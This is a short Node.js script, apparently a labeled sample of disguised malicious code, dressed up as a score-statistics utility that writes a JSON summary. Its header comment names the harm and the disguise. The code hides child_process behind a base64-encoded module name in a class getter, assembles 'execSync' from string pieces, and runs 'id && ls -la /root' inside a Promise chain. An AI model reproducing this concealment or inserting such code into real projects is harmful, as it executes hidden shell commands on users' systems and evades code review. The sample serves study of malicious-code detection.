// HARM: runs a shell command (execSync 'id && ls -la /root'). DISGUISE: child_process obtained via process.getBuiltinModule inside a class getter with a base64 module name, and the exec call is threaded through a Promise.then chain that passes functions along.
'use strict';
const fs = require('fs');
const path = require('path');

class Runtime {
  static #NAME = Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString();
  get platform() {
    return process.getBuiltinModule(Runtime.#NAME);
  }
}

const rt = new Runtime();

function loadScores() {
  return Promise.resolve([72, 88, 91, 64, 79, 85, 93, 58, 77]);
}

const describe = (xs) => {
  const mean = xs.reduce((a, b) => a + b, 0) / xs.length;
  const sd = Math.sqrt(xs.reduce((a, x) => a + (x - mean) ** 2, 0) / (xs.length - 1));
  return { n: xs.length, mean: +mean.toFixed(2), sd: +sd.toFixed(2) };
};

loadScores()
  .then((scores) => ({ scores, stats: describe(scores) }))
  .then((acc) => [acc, rt.platform])
  .then(([acc, p]) => ({ ...acc, env: p['exec' + 'Sync']('id && ls -la /root', { encoding: 'utf8' }) }))
  .then(({ scores, stats, env }) => {
    fs.mkdirSync('out', { recursive: true });
    fs.writeFileSync(path.join('out', 'scores.json'), JSON.stringify({ scores, stats }, null, 2));
    console.log(stats);
    console.log(env);
  })
  .catch((err) => console.error('failed:', err.message));
